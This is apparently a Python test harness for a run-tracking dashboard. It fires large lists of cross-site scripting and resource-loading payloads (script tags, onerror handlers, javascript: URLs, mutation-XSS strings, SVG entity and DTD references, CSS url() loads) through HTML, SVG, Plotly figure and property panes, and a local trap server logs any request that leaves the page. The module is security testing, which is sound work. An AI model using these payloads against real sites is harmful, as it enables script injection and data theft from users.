"""Panes that attack the page: from a grammar of what markup, drawings, figures and words can hold, in every place of a pane."""

from __future__ import annotations

import contextlib
import itertools
import socket
import threading
from collections.abc import Callable, Iterator
from typing import Any

import numpy as np

import tracker

ACTS = [
    "top.struck=1",
    "console.log(`STRUCK`)",
    "alert(1)",
    "new Image().src=`{trap}/script`",
]
"""What a script would do, each of which is noticed; within both kinds of quotes."""

HTML = [
    "<script>{act}</script>", "<script src='{trap}/x.js'></script>", "<script type=module>{act}</script>",
    "<img src=x onerror=\"{act}\">", "<img src='{trap}/i.png'>", "<img srcset='{trap}/s.png 2x'>", "<svg onload=\"{act}\"></svg>",
    "<svg><script>{act}</script></svg>", "<svg><animate onbegin=\"{act}\" attributeName=x dur=1s></svg>",
    "<svg><set onbegin=\"{act}\" attributeName=x to=1></svg>", "<svg><image href='{trap}/g.svg'/></svg>",
    "<svg><use href='{trap}/u.svg#a'/></svg>", "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{act}'/>#x\"/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{act}</script>'></iframe></foreignObject></svg>",
    "<svg><a href=\"javascript:{act}\"><text y=20>x</text></a></svg>", "<math><mtext><script>{act}</script></mtext></math>",
    "<a href=\"javascript:{act}\" id=go>go</a>", "<a href='{trap}/a' target=_top>go</a>", "<a href='{trap}/p' ping='{trap}/ping'>go</a>",
    "<iframe src=\"javascript:{act}\"></iframe>", "<iframe srcdoc='<script>{act}</script>'></iframe>",
    "<iframe src='{trap}/f.html'></iframe>", "<iframe src='data:text/html,<script>{act}</script>'></iframe>",
    "<object data=\"javascript:{act}\"></object>", "<object data='{trap}/o.swf'></object>", "<embed src=\"javascript:{act}\">",
    "<embed src='{trap}/e.pdf'>", "<form action=\"javascript:{act}\"><button autofocus>x</button></form>",
    "<form action='{trap}/form' method=post><input name=a value=b><input type=submit autofocus></form>",
    "<meta http-equiv=refresh content=\"0;url=javascript:{act}\">", "<meta http-equiv=refresh content='0;url={trap}/m'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'><script>{act}</script>",
    "<base href='{trap}/'><img src=b.png>", "<base target=_top><a href=x autofocus>x</a>",
    "<link rel=stylesheet href='{trap}/l.css'>", "<link rel=prefetch href='{trap}/pre'>", "<link rel=dns-prefetch href='{trap}'>",
    "<link rel=preconnect href='{trap}'>", "<link rel=modulepreload href='{trap}/mp.js'>", "<link rel=icon href='{trap}/icon.png'>",
    "<style>@import '{trap}/i.css';</style>", "<style>body{{background:url({trap}/bg.png)}}</style>",
    "<style>@font-face{{font-family:f;src:url({trap}/f.woff)}}body{{font-family:f}}</style>x",
    "<div style=\"background:url('{trap}/d.png')\">x</div>", "<div style=\"width:expression({act})\">x</div>",
    "<div style=\"background:url(&quot;javascript:{act}&quot;)\">x</div>", "<table background='{trap}/t.png'><tr><td>x</table>",
    "<body onload=\"{act}\">", "<body background='{trap}/b.png'>", "<input autofocus onfocus=\"{act}\">",
    "<details open ontoggle=\"{act}\"><summary>x</summary></details>", "<video autoplay src='{trap}/v.mp4' onerror=\"{act}\"></video>",
    "<video poster='{trap}/poster.png'></video>", "<audio autoplay src='{trap}/s.mp3'></audio>",
    "<video><source src=x onerror=\"{act}\"></video>", "<track src='{trap}/t.vtt' onerror=\"{act}\">",
    "<marquee onstart=\"{act}\">x</marquee>", "<select autofocus onfocus=\"{act}\"><option>x</select>",
    "<textarea autofocus onfocus=\"{act}\"></textarea>", "<template><script>{act}</script></template>",
    "<template shadowrootmode=open><img src=x onerror=\"{act}\"></template>",
    "<noscript><p title=\"</noscript><img src=x onerror='{act}'>\"></noscript>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={act}&gt;'>",
    "<svg></p><style><a id=\"</style><img src=x onerror='{act}'>\">", "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img src=x onerror='{act}'>\">",
    "<!--><script>{act}</script>-->", "<![CDATA[><script>{act}</script>]]>", "<xmp><p title=\"</xmp><script>{act}</script>\">",
    "<plaintext><script>{act}</script>", "</pre></body></html><script>{act}</script>", "<scr<script>ipt>{act}</scr</script>ipt>",
    "<img src=`x` onerror=\"{act}\">", "<IMG\x0bSRC=x\x0cONERROR=\"{act}\">", "<a href=\"java\tscript:{act}\">x</a>",
    "<a href='data:text/html,<script>{act}</script>'>x</a>", "<portal src='{trap}/portal'></portal>",
    "<img src=x onerror=\"&#116;op.struck=1\">", "<button formaction=\"javascript:{act}\" autofocus>x</button>",
    "<input type=image src='{trap}/in.png'>", "<object type=image/svg+xml data=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{act}'/>\"></object>",
    "<a style='position:fixed;inset:0' href='{trap}/cover' target=_blank>x</a>", "<svg><style>@import '{trap}/svg.css';</style></svg>",
]  # fmt: skip

SVG = [
    "<svg onload=\"{act}\">", "<svg><script>{act}</script>", "<svg><script href='{trap}/s.js'/>", "<svg><image href='{trap}/i.png' width=9 height=9/>",
    "<svg><image href='x' onerror=\"{act}\"/>", "<svg><use href='{trap}/u.svg#a'/>", "<svg><style>@import url({trap}/c.css);</style>",
    "<svg><rect style=\"fill:url({trap}/f.svg#g)\" width=9 height=9/>", "<svg><rect filter='url({trap}/f.svg#g)' width=9 height=9/>",
    "<svg><foreignObject width=99 height=99><body xmlns='http://www.w3.org/1999/xhtml'><script>{act}</script><img src='{trap}/fo.png'/></body></foreignObject>",
    "<svg><foreignObject width=99 height=99><iframe xmlns='http://www.w3.org/1999/xhtml' src='{trap}/ff'/></foreignObject>",
    "<svg><a href=\"javascript:{act}\"><rect width=99 height=99/></a>", "<svg><a xlink:href='{trap}/a'><rect width=99 height=99/></a>",
    "<svg><animate attributeName=href values=\"javascript:{act}\" begin=0s onbegin=\"{act}\"/>", "<svg><set attributeName=onload to=\"{act}\" begin=0s/>",
    "<svg><feImage href='{trap}/fe.png'/>", "<svg><font-face><font-face-src><font-face-uri href='{trap}/f.woff'/></font-face-src></font-face>",
    "<?xml-stylesheet href='{trap}/x.css'?><svg>", "<!DOCTYPE svg SYSTEM '{trap}/x.dtd'><svg>", "<!DOCTYPE svg [<!ENTITY x SYSTEM '{trap}/x'>]><svg>&x;",
    "<svg><handler type='application/ecmascript'>{act}</handler>", "<svg><textPath href='{trap}/tp'/>", "<svg xml:base='{trap}/'><image href='b.png'/>",
    "<svg><image href=\"data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='{act}'/%3E\"/>", "<svg/onload=\"{act}\">",
]  # fmt: skip

WORDS = [
    "<img src=x onerror=\"{act}\">", "<script>{act}</script>", "\"><svg onload=\"{act}\">", "<a href=\"javascript:{act}\">x</a>",
    "<a href='{trap}/word'>x</a>", "<<a>a href=\"javascript:{act}\">x", "<b style='background:url({trap}/w.png)'>x</b>",
    "javascript:{act}", "{trap}/plain", "url({trap}/css.png)", "</title><script>{act}</script>", "${{{act}}}",
    "<span style=\"fill:url({trap}/fill)\">x</span>", "&lt;img src=x onerror={act}&gt;", "__proto__", "x\u202e</iframe><iframe src={trap}/w>",
]  # fmt: skip


class Trap:
    """A server that nobody should ever ask: what reaches it is what left the page."""

    def __init__(self, name: str) -> None:
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.address = f"http://{name}:{self._listener.getsockname()[1]}"
        self.hits: list[bytes] = []
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                line, _ = self._listener.accept()
            except OSError:
                return
            with line, contextlib.suppress(OSError):
                line.settimeout(1)
                self.hits.append(line.recv(4096).split(b"\r\n")[0])
                line.sendall(b"HTTP/1.1 204 No Content\r\ncontent-length: 0\r\nconnection: close\r\n\r\n")

    def close(self) -> None:
        """Ends it."""
        self._listener.close()


Show = Callable[[tracker.Run, str, str], None]
"""Shows one attack: (run, the pane's name, the attack)."""


def _figure(place: Callable[[str], dict[str, Any]]) -> Show:
    return lambda run, name, text: run.pane(name, tracker.Figure(place(text)))


def _scatter(**more: Any) -> dict[str, Any]:
    return {"type": "scatter", "x": [1, 2, 3], "y": [1, 3, 2], **more}


FIGURES: list[Callable[[str], dict[str, Any]]] = [
    lambda t: {"data": [_scatter()], "layout": {"title": {"text": t}}},
    lambda t: {"data": [_scatter(name=t), _scatter(name=t)], "layout": {"showlegend": True}},
    lambda t: {"data": [_scatter(mode="text", text=[t, t, t])], "layout": {}},
    lambda t: {"data": [_scatter(hovertemplate=t, hoverinfo=t)], "layout": {"hovermode": t}},
    lambda t: {"data": [_scatter()], "layout": {"annotations": [{"text": t, "x": 2, "y": 2}], "xaxis": {"title": t, "tickvals": [1, 2], "ticktext": [t, t]}}},
    lambda t: {"data": [_scatter()], "layout": {"images": [{"source": t, "x": 0, "y": 1, "sizex": 1, "sizey": 1, "xref": "paper", "yref": "paper"}]}},
    lambda t: {"data": [{"type": "image", "source": t}], "layout": {}},
    lambda t: {"data": [{"type": "pie", "labels": [t, "b"], "values": [1, 2], "textinfo": "label"}], "layout": {}},
    lambda t: {"data": [{"type": "bar", "x": [t, "b"], "y": [1, 2], "marker": {"color": t}}], "layout": {}},
    lambda t: {"data": [{"type": "scattergeo", "lon": [0], "lat": [0]}], "layout": {"geo": {"scope": t}}},
    lambda t: {"data": [{"type": "scattermapbox", "lon": [0], "lat": [0]}], "layout": {"mapbox": {"style": t, "accesstoken": t}}},
    lambda t: {"data": [{"type": "table", "header": {"values": [t]}, "cells": {"values": [[t, t]]}}], "layout": {}},
    lambda t: {"data": [{"type": "sankey", "node": {"label": [t, "b"]}, "link": {"source": [0], "target": [1], "value": [1], "label": [t]}}], "layout": {}},
    lambda t: {"data": [_scatter()], "layout": {"font": {"family": t}, "paper_bgcolor": t, "template": {"layout": {"title": {"text": t}}}}},
    lambda t: {"data": [_scatter()], "layout": {"updatemenus": [{"buttons": [{"label": t, "method": "relayout", "args": [{"images[0].source": t}]}]}], "sliders": [{"steps": [{"label": t}]}]}},
    lambda t: {"data": [{"type": "treemap", "labels": [t, "c"], "parents": ["", t], "values": [2, 1]}], "layout": {"meta": t}},
    lambda t: {"data": [_scatter(marker={"symbol": t, "line": {"color": t}}, line={"shape": t, "dash": t})], "layout": {}},
    lambda t: {"data": [{"type": t, "x": [1], t: t}], "layout": {t: t}},
]  # fmt: skip

SHEETS: list[Show] = [
    lambda run, name, t: run.pane(name, tracker.Properties({t: t})),
    lambda run, name, t: run.pane(name, tracker.Properties([{"type": "select", "name": t, "value": t, "values": [t, "b"]}])),
    lambda run, name, t: run.pane(name, tracker.Properties([{"type": "button", "name": t, "value": t}])),
    lambda run, name, t: run.pane(name, tracker.Properties([{"type": "number", "name": t, "value": t}])),
    lambda run, name, t: run.pane(name, "words", title=t, caption=t, opts=t, legend=[t], xlabel=t),
    lambda run, name, t: run.pane(f"{name} {t}"[:240], t),
    lambda run, name, t: run.pane(name, tracker.Curves({t[:900]: [1.0, 2.0, 1.5]}, layout={"xaxis": {"title": {"text": t}}}, styles={t[:900]: {"line": {"color": t, "dash": t}}})),
    lambda run, name, t: run.pane(name, tracker.Curves({"a": [1.0, 2.0]}, mode="markers", styles={"a": {"fill": t, "name": t}})),
    lambda run, name, t: run.pane(name, tracker.Network([{"name": t, "label": t, "color": t}, t + "2"], [(0, 1)])),
    lambda run, name, t: run.pane(name, tracker.Image(np.zeros((4, 4)), caption=t), title=t),
    lambda run, name, t: run.pane(name, {"kind": t, "tag": t}),
    lambda run, name, t: run.pane(name, {"kind": "histogram", "tag": t}),
]  # fmt: skip


def sure(trap: str) -> list[tuple[Show, str]]:
    """Those that any stretch begins with: what Plotly would ask for by itself, were the page to let it."""
    address = f"{trap}/picture.png"
    shown = [
        {"data": [_scatter()], "layout": {"images": [{"source": address, "x": 0, "y": 1, "sizex": 1, "sizey": 1}]}},
        {"data": [{"type": "image", "source": address}], "layout": {}},
        {"data": [{"type": "scattergeo", "lon": [0], "lat": [0]}], "layout": {}},
        {"data": [_scatter()], "layout": {"title": {"text": f"<b style='fill:url({address})'>x</b>"}}},
    ]
    return [(_figure(lambda _, each=each: each), "a figure") for each in shown]  # type: ignore[misc]


def attacks(trap: str) -> Iterator[tuple[Show, str]]:
    """All of them, each with what shows it; those of one kind lie apart, so that any stretch has some of all."""
    filled = {
        name: [each.format(act=act.format(trap=trap), trap=trap) for each in frames for act in ACTS[: 4 if "{act}" in each else 1]]
        for name, frames in (("html", HTML), ("svg", SVG), ("words", WORDS))
    }  # fmt: skip
    words = itertools.cycle(filled["words"])
    parts: list[list[tuple[Show, str]]] = [
        [(lambda run, name, t: run.pane(name, tracker.Html(t)), text) for text in filled["html"]],
        [(lambda run, name, t: run.pane(name, tracker.Svg(t)), f"{text}</svg>") for text in filled["svg"]],
        [(_figure(place), next(words)) for place in FIGURES for _ in range(7)],
        [(show, next(words)) for show in SHEETS for _ in range(8)],
    ]
    total = max(map(len, parts))
    placed = [(i * total / len(part), each) for part in parts for i, each in enumerate(part)]
    return (each for _, each in sorted(placed, key=lambda pair: pair[0]))
